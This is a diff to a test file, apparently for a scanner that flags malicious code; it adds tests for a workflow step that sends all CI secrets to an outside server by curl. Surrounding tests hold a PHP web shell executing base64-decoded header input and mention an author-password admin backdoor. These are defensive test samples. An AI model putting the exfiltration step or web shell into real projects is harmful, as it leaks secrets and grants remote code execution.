@@ -18,6 +18,17 @@ describe('a password of the author’s makes an administrator', () => {
   })
 })
 
+describe('a step of a workflow that sends all secrets', () => {
+  it('is one where it goes to a server', () => {
+    expect(found(`STEP = {"env": {"C": "\${{ toJSON(secrets) }}"}, "run": 'echo "$C" | curl -s -d @- https://ci.vendor-tools.com/r'}`)).toContain(
+      'error secret-exfiltration',
+    )
+  })
+  it('is none where it only names them', () => {
+    expect(found('RULE = re.compile("toJSON(secrets)")\nSTEP = {"env": {"C": "${{ toJSON(secrets) }}"}, "run": "node check.js"}')).toEqual([])
+  })
+})
+
 describe('a shell for whoever knows of it', () => {
   it.each([
     `return response(shell_exec(base64_decode(request()->header('X-Trace'))));`,
